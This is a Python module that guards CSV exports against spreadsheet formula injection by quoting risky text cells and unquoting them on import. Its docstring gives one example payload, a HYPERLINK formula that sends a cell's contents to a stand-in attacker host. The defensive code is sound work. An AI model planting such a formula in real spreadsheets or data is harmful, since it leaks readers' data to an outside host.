"""Every CSV the app writes goes through here, so that no cell runs as a spreadsheet formula.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return as a formula (``=HYPERLINK("http://evil.example/?"&A1,"x")``
in a project title would run in the reader's spreadsheet). Such text cells are
written with a leading ``'``, which spreadsheets show as text and hide.

The portfolio interchange files are read back by the importer, which removes
that ``'`` again (``formula_unquoted``); so that the round trip is exact for any
text, a text that already begins with ``'`` followed (after more ``'``) by one of
those characters gets one more ``'`` too. Numbers, money and dates are not text:
they are never quoted, so a negative number stays a number.

Pure Python (no Django): the demo generator may use it too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def formula_safe(value: str) -> str:
    """``value`` as a cell a spreadsheet shows as text, a NUL in it as U+FFFD.

    No page or API takes a NUL any more, but text kept from before may hold one; written
    raw it made a file the import refuses ("the file has a NUL byte"), and the workbook
    export already writes it as U+FFFD (openpyxl's illegal characters)."""
    if "\x00" in value:
        value = value.replace("\x00", "\ufffd")
    if value and value[0] in "=+-@\t\r'" and _NEEDS_QUOTE.match(value):
        return "'" + value
    return value


def formula_unquoted(value: str) -> str:
    """The text a cell written by ``formula_safe`` stood for."""
    if value[:1] == "'" and _QUOTED.match(value):
        return value[1:]
    return value


def safe_cell(value: Any) -> Any:
    """A cell of any type for ``csv.writer``: text made safe, None empty, the rest as is."""
    if isinstance(value, str):
        return formula_safe(value)
    if value is None:
        return ""
    return value


class SafeWriter:
    """``csv.writer`` whose rows have every text cell made safe."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    return SafeWriter(stream, **options)
